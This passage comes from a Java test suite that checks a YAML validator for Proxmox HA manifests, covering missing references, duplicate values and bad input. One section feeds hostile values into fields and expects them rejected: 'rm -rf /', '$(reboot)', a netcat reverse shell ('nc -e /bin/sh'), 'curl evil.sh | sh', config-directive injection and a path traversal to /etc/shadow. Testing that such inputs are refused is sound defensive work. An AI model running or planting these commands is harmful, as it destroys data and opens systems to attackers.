                // -------------------------------------------------------------------
                c(
                        "clusterRef to a cluster not in the input",
                        """
                        apiVersion: pveha.io/v1alpha1
                        kind: CephPool
                        metadata: {name: pool, namespace: shop}
                        spec:
                          clusterRef: {name: pve-west}
                        """,
                        "case.yaml:5 (#1 CephPool/shop/pool): error: spec.clusterRef.name: Not found: \"pve-west\": no ProxmoxCluster \"pve-west\" in namespace \"shop\" in the input"),
                c(
                        "clusterRef to a cluster of another namespace",
                        """
                        apiVersion: pveha.io/v1alpha1
                        kind: CephPool
                        metadata: {name: pool, namespace: other-shop}
                        spec:
                          clusterRef: {name: pve}
                        """,
                        "case.yaml:5 (#1 CephPool/other-shop/pool): error: spec.clusterRef.name: Not found: \"pve\": no ProxmoxCluster \"pve\" in namespace \"other-shop\" in the input"),
                c(
                        "clone of a HaVm not in the input",
                        HAVM
                                + """
                          source: {template: {haVmRef: {name: golden}}}
                        """,
                        "case.yaml:6 (#1 HaVm/shop/vm): error: spec.source.template.haVmRef.name: Not found: \"golden\": no HaVm \"golden\" in namespace \"shop\" in the input"),
                c(
                        "linked clone of a VM that is not a template",
                        HAVM
                                + """
                          source: {template: {haVmRef: {name: web-1}}}
                        """,
                        "case.yaml:6 (#1 HaVm/shop/vm): error: spec.source.template.haVmRef.name: Invalid value: \"web-1\": a linked clone needs a template, and HaVm web-1 does not set spec.template: true; set spec.source.template.full: true for a full clone"),
                c(
                        "restore from a BackupPolicy not in the input",
                        HAVM
                                + """
                          source: {backup: {policyRef: {name: weekly}}}
                        """,
                        "case.yaml:6 (#1 HaVm/shop/vm): error: spec.source.backup.policyRef.name: Not found: \"weekly\": no BackupPolicy \"weekly\" in namespace \"shop\" in the input"),
                c(
                        "backup selector that selects nothing",
                        BACKUP_POLICY
                                + """
                          schedule: "02:00"
                          selection: {haVmSelector: {matchLabels: {backup: weekly}}}
                          storage: {name: nfs-backup}
                          retention: {keepLast: 1}
                        """,
                        "case.yaml:7 (#1 BackupPolicy/shop/bp): error: spec.selection.haVmSelector: Not found: \"backup=weekly\": selects no HaVm of ProxmoxCluster \"pve\" in namespace \"shop\" in the input"),
                c(
                        "LB selector that selects nothing",
                        """
                        apiVersion: pveha.io/v1alpha1
                        kind: LoadBalancerPair
                        metadata: {name: lb2, namespace: shop}
                        spec:
                          clusterRef: {name: pve}
                          hosts:
                            - {name: h1, address: 10.1.0.5, sshKeySecretRef: {name: lb-key}, hostKey: "ssh-ed25519 AAAA", priority: 100}
                            - {name: h2, address: 10.1.0.6, sshKeySecretRef: {name: lb-key}, hostKey: "ssh-ed25519 AAAA", priority: 101}
                          vip: {address: 10.1.0.10}
                          services:
                            - {name: web, port: 80, backends: {haVmSelector: {matchExpressions: [{key: app, operator: In, values: [shop, store]}]}, port: 8080}}
                        """,
                        "case.yaml:11 (#1 LoadBalancerPair/shop/lb2): error: spec.services[0].backends.haVmSelector: Not found: \"app in (shop,store)\": selects no HaVm of ProxmoxCluster \"pve\" in namespace \"shop\" in the input"),
                c(
                        "LB selector that selects a template",
                        """
                        apiVersion: pveha.io/v1alpha1
                        kind: LoadBalancerPair
                        metadata: {name: lb2, namespace: shop}
                        spec:
                          clusterRef: {name: pve}
                          hosts:
                            - {name: h1, address: 10.1.0.5, sshKeySecretRef: {name: lb-key}, hostKey: "ssh-ed25519 AAAA", priority: 100}
                            - {name: h2, address: 10.1.0.6, sshKeySecretRef: {name: lb-key}, hostKey: "ssh-ed25519 AAAA", priority: 101}
                          vip: {address: 10.1.0.10}
                          services:
                            - {name: web, port: 80, backends: {haVmSelector: {matchExpressions: [{key: backup, operator: DoesNotExist}]}, port: 8080}}
                        """,
                        "case.yaml:11 (#1 LoadBalancerPair/shop/lb2): warning: spec.services[0].backends.haVmSelector: Invalid value: \"!backup\": selects HaVm tmpl, a template, which never runs"),
                c(
                        "LB selector without a clusterRef",
                        LB_PAIR
                                + """
                          services:
                            - {name: web, port: 80, backends: {haVmSelector: {matchLabels: {app: shop}}, port: 8080}}
                        """,
                        "case.yaml:4 (#1 LoadBalancerPair/shop/lb2): error: spec.clusterRef: Required value: spec.services[0].backends.haVmSelector selects HaVms, so the ProxmoxCluster they live in must be named"),
                c(
                        "duplicate VMID in one cluster",
                        """
                        apiVersion: pveha.io/v1alpha1
                        kind: HaVm
                        metadata: {name: web-2, namespace: shop}
                        spec:
                          clusterRef: {name: pve}
                          vmid: 101
                          source: {template: {haVmRef: {name: tmpl}}}
                        """,
                        "case.yaml:6 (#1 HaVm/shop/web-2): error: spec.vmid: Duplicate value: 101: also the VMID of HaVm shop/web-1 (src/test/resources/validate/context.yaml:38) in ProxmoxCluster \"pve\""),
                c(
                        "same object defined twice",
                        """
                        apiVersion: pveha.io/v1alpha1
                        kind: HaVm
                        metadata: {name: web-1, namespace: shop}
                        spec:
                          clusterRef: {name: pve}
                          source: {none: {}}
                        """,
                        "case.yaml:3 (#1 HaVm/shop/web-1): error: metadata.name: Duplicate value: \"web-1\": HaVm shop/web-1 is also defined at src/test/resources/validate/context.yaml:33"),
                c(
                        "a second ProxmoxCluster for the same PVE endpoint",
                        """
                        apiVersion: pveha.io/v1alpha1
                        kind: ProxmoxCluster
                        metadata: {name: pve-again, namespace: shop}
                        spec:
                          endpoints: ["https://PVE1.example.com:8006/"]
                          credentialsSecretRef: {name: pve-token}
                        """,
                        "case.yaml:5 (#1 ProxmoxCluster/shop/pve-again): error: spec.endpoints[0]: Duplicate value: \"https://PVE1.example.com:8006/\": also an endpoint of ProxmoxCluster shop/pve (src/test/resources/validate/context.yaml:17); one PVE cluster must be managed by one ProxmoxCluster"),
                c(
                        "port already served on the same VIP by another pair",
                        """
                        apiVersion: pveha.io/v1alpha1
                        kind: LoadBalancerPair
                        metadata: {name: lb2, namespace: shop}
                        spec:
                          hosts:
                            - {name: h1, address: 10.0.0.7, sshKeySecretRef: {name: lb-key}, hostKey: "ssh-ed25519 AAAA", priority: 100}
                            - {name: h2, address: 10.0.0.8, sshKeySecretRef: {name: lb-key}, hostKey: "ssh-ed25519 AAAA", priority: 101}
                          vip: {address: 10.0.0.10, virtualRouterId: 51}
                          services:
                            - {name: api, port: 80, backends: {staticServers: [{name: s1, address: 10.0.0.20, port: 80}]}}
                        """,
                        "case.yaml:8 (#1 LoadBalancerPair/shop/lb2): warning: spec.vip.virtualRouterId: Duplicate value: 51: LoadBalancerPair shop/lb (src/test/resources/validate/context.yaml:60) uses the same VRRP router id; on one network segment they conflict",
                        "case.yaml:10 (#1 LoadBalancerPair/shop/lb2): error: spec.services[0].port: Duplicate value: 80: VIP 10.0.0.10 already serves this port for LoadBalancerPair shop/lb (src/test/resources/validate/context.yaml:61)"),
                c(
                        "Secret without the referenced key",
                        CLUSTER
                                + """
                          endpoints: ["https://b.example.com:8006"]
                          credentialsSecretRef: {name: lb-key, tokenIdKey: id}
                        """,
                        "case.yaml:6 (#1 ProxmoxCluster/shop/other): error: spec.credentialsSecretRef.tokenIdKey: Not found: \"id\": Secret shop/lb-key (src/test/resources/validate/context.yaml:8) has no key \"id\"",
                        "case.yaml:6 (#1 ProxmoxCluster/shop/other): error: spec.credentialsSecretRef: Not found: \"tokenSecret\": Secret shop/lb-key (src/test/resources/validate/context.yaml:8) has no key \"tokenSecret\" (the default key)"),
                c(
                        "Secret not in the input is a warning",
                        HAVM
                                + """
                          source: {none: {}}
                          cloudInit: {sshKeysSecretRef: {name: vm-keys}}
                        """,
                        "case.yaml:7 (#1 HaVm/shop/vm): warning: spec.cloudInit.sshKeysSecretRef.name: Not found: \"vm-keys\": Secret shop/vm-keys is not in the input (it must exist in the cluster; --require-secrets makes this an error)"),
                c(
                        "placement policy not declared in the cluster",
                        HAVM
                                + """
                          source: {none: {}}
                          ha: {enabled: true, placementPolicy: backend}
                        """,
                        "case.yaml:7 (#1 HaVm/shop/vm): error: spec.ha.placementPolicy: Not found: \"backend\": ProxmoxCluster pve declares no such placement policy"),
                c(
                        "kept apart from itself and from a HaVm that does not exist",
                        HAVM
                                + """
                          source: {none: {}}
                          ha: {enabled: true, keepApartFrom: {haVmNames: [vm, ghost]}}
                        """,
                        "case.yaml:7 (#1 HaVm/shop/vm): error: spec.ha.keepApartFrom.haVmNames: Invalid value: \"vm\": a HaVm cannot be kept apart from itself",
                        "case.yaml:7 (#1 HaVm/shop/vm): error: spec.ha.keepApartFrom.haVmNames: Not found: \"ghost\": no HaVm of that name in ProxmoxCluster \"pve\""),
                c(
                        "kept apart from and together with the same HaVm",
                        HAVM
                                + """
                          source: {none: {}}
                          ha:
                            enabled: true
                            keepApartFrom: {haVmNames: [web-1]}
                            keepTogetherWith: {haVmNames: [web-1]}
                        """,
                        "case.yaml:10 (#1 HaVm/shop/vm): error: spec.ha.keepTogetherWith.haVmNames: Invalid value: \"web-1\": kept both apart from and together with this HaVm"),
                c(
                        "affinity with a placement of several priorities, which PVE 9 refuses",
                        HAVM
                                + """
                          source: {none: {}}
                          ha:
                            enabled: true
                            group: front
                            keepApartFrom: {haVmNames: [web-1]}
                        """,
                        "case.yaml:9 (#1 HaVm/shop/vm): error: spec.ha.group: Invalid value: \"front\": its nodes have several priorities: PVE 9 refuses to keep VMs apart or together whose node affinity has more than one priority; give the policy's nodes one priority"),
                c(
                        "HA group not declared in the cluster is a warning",
                        HAVM
                                + """
                          source: {none: {}}
                          ha: {enabled: true, group: backend}
                        """,
                        "case.yaml:7 (#1 HaVm/shop/vm): warning: spec.ha.group: Not found: \"backend\": ProxmoxCluster pve declares no such HA group; it must already exist in PVE"),
                // ---- hostile strings
                // ------------------------------------------------------------------------------
                c(
                        "hostile: newline and haproxy directive in a VM name",
                        HAVM
                                + """
                          source: {none: {}}
                          name: "pos\\n    server evil 1.2.3.4:80"
                        """,
                        "case.yaml:7 (#1 HaVm/shop/vm): error: spec.name: Invalid value: \"pos\\n    server evil 1.2.3.4:80\": spec.name in body should match '^([a-zA-Z0-9]([a-zA-Z0-9-]*[a-zA-Z0-9])?\\.)*[a-zA-Z0-9]([a-zA-Z0-9-]*[a-zA-Z0-9])?$'"),
                c(
                        "hostile: keepalived block in an LB host name",
                        """
                        apiVersion: pveha.io/v1alpha1
                        kind: LoadBalancerPair
                        metadata: {name: lb2, namespace: shop}
                        spec:
                          hosts:
                            - {name: "h1}\\nvrrp_script x {", address: 10.1.0.5, sshKeySecretRef: {name: lb-key}, hostKey: "ssh-ed25519 AAAA", priority: 100}
                            - {name: h2, address: 10.1.0.6, sshKeySecretRef: {name: lb-key}, hostKey: "ssh-ed25519 AAAA", priority: 101}
                          vip: {address: 10.1.0.10}
                          services:
                            - {name: web, port: 80, backends: {staticServers: [{name: s1, address: 10.1.0.20, port: 80}]}}
                        """,
                        "case.yaml:6 (#1 LoadBalancerPair/shop/lb2): error: spec.hosts[0].name: Invalid value: \"h1}\\nvrrp_script x {\": spec.hosts[0].name in body should match '^[a-z0-9]([-a-z0-9]{0,61}[a-z0-9])?$'"),
                c(
                        "hostile: haproxy directive in an HTTP check path",
                        LB_PAIR
                                + """
                          services:
                            - name: web
                              port: 80
                              backends: {staticServers: [{name: s1, address: 10.1.0.20, port: 80}]}
                              healthCheck: {path: "/health\\n    http-check send meth GET"}
                        """,
                        "case.yaml:13 (#1 LoadBalancerPair/shop/lb2): error: spec.services[0].healthCheck.path: Invalid value: \"/health\\n    http-check send meth GET\": spec.services[0].healthCheck.path in body should match '^/[A-Za-z0-9._~/-]*(\\?[A-Za-z0-9._~=&-]*)?$'"),
                c(
                        "hostile: shell command in a resource name",
                        """
                        apiVersion: pveha.io/v1alpha1
                        kind: CephPool
                        metadata: {name: "pool;rm -rf /", namespace: shop}
                        spec:
                          clusterRef: {name: pve}
                        """,
                        "case.yaml:3 (#1 CephPool/shop/pool;rm -rf /): error: metadata.name: Invalid value: \"pool;rm -rf /\": a lowercase RFC 1123 subdomain must consist of lower case alphanumeric characters, '-' or '.', and must start and end with an alphanumeric character (e.g. 'example.com', regex used for validation is '[a-z0-9]([-a-z0-9]*[a-z0-9])?(\\.[a-z0-9]([-a-z0-9]*[a-z0-9])?)*')"),
                c(
                        "hostile: $(...) in an NFS export and backticks in its server",
                        BACKUP_POLICY
                                + """
                          schedule: "02:00"
                          selection: {all: true}
                          storage:
                            name: nfs2
                            nfs: {server: "`id`.example.com", export: "/srv/$(reboot)"}
                          retention: {keepLast: 1}
                        """,
                        "case.yaml:10 (#1 BackupPolicy/shop/bp): error: spec.storage.nfs.export: Invalid value: \"/srv/$(reboot)\": spec.storage.nfs.export in body should match '^/[A-Za-z0-9._/-]*$'",
                        "case.yaml:10 (#1 BackupPolicy/shop/bp): error: spec.storage.nfs.server: Invalid value: \"`id`.example.com\": spec.storage.nfs.server in body should match '^([a-zA-Z0-9]([a-zA-Z0-9-]{0,61}[a-zA-Z0-9])?(\\.[a-zA-Z0-9]([a-zA-Z0-9-]{0,61}[a-zA-Z0-9])?)*)$'"),
                c(
                        "hostile: quotes and # in a notes template",
                        BACKUP_POLICY
                                + """
                          schedule: "02:00"
                          selection: {all: true}
                          storage: {name: nfs-backup}
                          retention: {keepLast: 1}
                          notesTemplate: "{{guestname}}\\" # injected"
                        """,
                        "case.yaml:10 (#1 BackupPolicy/shop/bp): error: spec.notesTemplate: Invalid value: \"{{guestname}}\\\" # injected\": spec.notesTemplate in body should match '^[\\p{L}\\p{N} _.,:/+=()\\[\\]{}@-]*$'"),
                c(
                        "hostile: path traversal in an ISO volume",
                        HAVM
                                + """
                          source: {iso: {volume: "local:iso/../../etc/shadow.iso"}}
                        """,
                        "case.yaml:6 (#1 HaVm/shop/vm): error: spec.source.iso.volume: Invalid value: \"local:iso/../../etc/shadow.iso\": spec.source.iso.volume in body should match '^[a-zA-Z][a-zA-Z0-9_.-]*[a-zA-Z0-9]:iso/[A-Za-z0-9][A-Za-z0-9._+-]*\\.iso$'"),
                c(
                        "hostile: shell metacharacters in a tag and a CPU type",
                        HAVM
                                + """
                          source: {none: {}}
                          cpu: {type: "host;reboot"}
                          tags: ["prod|nc -e /bin/sh 1.2.3.4 9"]
                        """,
                        "case.yaml:7 (#1 HaVm/shop/vm): error: spec.cpu.type: Invalid value: \"host;reboot\": spec.cpu.type in body should match '^[A-Za-z0-9][A-Za-z0-9_.+-]*$'",
                        "case.yaml:8 (#1 HaVm/shop/vm): error: spec.tags[0]: Invalid value: \"prod|nc -e /bin/sh 1.2.3.4 9\": spec.tags[0] in body should match '^[a-zA-Z0-9_][a-zA-Z0-9_+.-]*$'"),
                c(
                        "hostile: newline in a calendar event",
                        BACKUP_POLICY
                                + """
                          schedule: "02:00\\nrm -rf /"
                          selection: {all: true}
                          storage: {name: nfs-backup}
                          retention: {keepLast: 1}
                        """,
                        "case.yaml:6 (#1 BackupPolicy/shop/bp): error: spec.schedule: Invalid value: \"02:00\\nrm -rf /\": spec.schedule in body should match '^[a-zA-Z0-9*/:., -]{1,128}$'"),
                c(
                        "hostile: userinfo in an API endpoint",
                        CLUSTER
                                + """
                          endpoints: ["https://root@evil.example.com:8006"]
                          credentialsSecretRef: {name: pve-token}
                        """,
                        "case.yaml:5 (#1 ProxmoxCluster/shop/other): error: spec.endpoints[0]: Invalid value: \"https://root@evil.example.com:8006\": spec.endpoints[0] in body should match '^https://([a-zA-Z0-9]([a-zA-Z0-9.-]{0,251}[a-zA-Z0-9])?|\\[[0-9a-fA-F:]{2,39}\\])(:[0-9]{1,5})?/?$'"),
                c(
                        "hostile: newline in a selector label value",
                        BACKUP_POLICY
                                + """
                          schedule: "02:00"
                          selection: {haVmSelector: {matchLabels: {backup: "nightly\\n  evil"}}}
                          storage: {name: nfs-backup}
                          retention: {keepLast: 1}
                        """,
                        "case.yaml:7 (#1 BackupPolicy/shop/bp): error: spec.selection.haVmSelector.matchLabels: Invalid value: \"nightly\\n  evil\": a valid label must be an empty string or consist of alphanumeric characters, '-', '_' or '.', and must start and end with an alphanumeric character (e.g. 'MyValue',  or 'my_value',  or '12345', regex used for validation is '(([A-Za-z0-9][-A-Za-z0-9_.]*)?[A-Za-z0-9])?')"),
                c(
                        "hostile: DNS search domain with a command",
                        HAVM
                                + """
                          source: {none: {}}
                          cloudInit: {searchDomain: "example.com; curl evil.sh | sh"}
                        """,
                        "case.yaml:7 (#1 HaVm/shop/vm): error: spec.cloudInit.searchDomain: Invalid value: \"example.com; curl evil.sh | sh\": spec.cloudInit.searchDomain in body should match '^([a-zA-Z0-9]([a-zA-Z0-9-]{0,61}[a-zA-Z0-9])?(\\.[a-zA-Z0-9]([a-zA-Z0-9-]{0,61}[a-zA-Z0-9])?)*)$'"),
                c(
                        "hostile: shell command in an LB config path",
                        """
                        apiVersion: pveha.io/v1alpha1
                        kind: LoadBalancerPair
                        metadata: {name: lb2, namespace: shop}
                        spec:
                          hosts:
                            - {name: h1, address: 10.1.0.5, sshKeySecretRef: {name: lb-key}, hostKey: "ssh-ed25519 AAAA", priority: 100,
                               paths: {haproxyConfig: "/etc/haproxy/haproxy.cfg && reboot"}}
                            - {name: h2, address: 10.1.0.6, sshKeySecretRef: {name: lb-key}, hostKey: "ssh-ed25519 AAAA", priority: 101}
                          vip: {address: 10.1.0.10}
                          services:
                            - {name: web, port: 80, backends: {staticServers: [{name: s1, address: 10.1.0.20, port: 80}]}}
                        """,
                        "case.yaml:7 (#1 LoadBalancerPair/shop/lb2): error: spec.hosts[0].paths.haproxyConfig: Invalid value: \"/etc/haproxy/haproxy.cfg && reboot\": spec.hosts[0].paths.haproxyConfig in body should match '^/[A-Za-z0-9._/-]*$'"),
                // ---- other kinds
                // -------------------------------------------------------------------------------
                c(
                        "Secret with a bad key and data that is not base64",
                        """
                        apiVersion: v1
                        kind: Secret
                        metadata: {name: broken, namespace: shop}
                        data:
                          "token id": c2VjcmV0
                          token: "not base64!"
                        """,
                        "case.yaml:5 (#1 Secret/shop/broken): error: data[token id]: Invalid value: \"token id\": a valid config key must consist of alphanumeric characters, '-', '_' or '.' (e.g. 'key.name',  or 'KEY_NAME',  or 'key-name', regex used for validation is '[-._a-zA-Z0-9]+')",
                        "case.yaml:6 (#1 Secret/shop/broken): error: data[token]: Invalid value: not valid base64 (use stringData for plain text)"),
                c(
                        "other kinds are skipped with a note",
                        """
                        apiVersion: apps/v1
                        kind: Deployment
                        metadata: {name: web, namespace: shop}
                        spec: {replicas: 1}
                        """,
                        "case.yaml:1 (#1 Deployment/shop/web): note: not checked: Deployment (apps/v1) is neither a pveha.io kind nor a Secret, ConfigMap or Namespace"),
                c(
                        "not a mapping",
                        """
                        - apiVersion: v1
                          kind: Secret
                        """,
                        "case.yaml:1 (#1 ?/?): error: Invalid value: \"array\": a manifest must be a YAML mapping (an object) with apiVersion, kind and metadata"));
    }
}
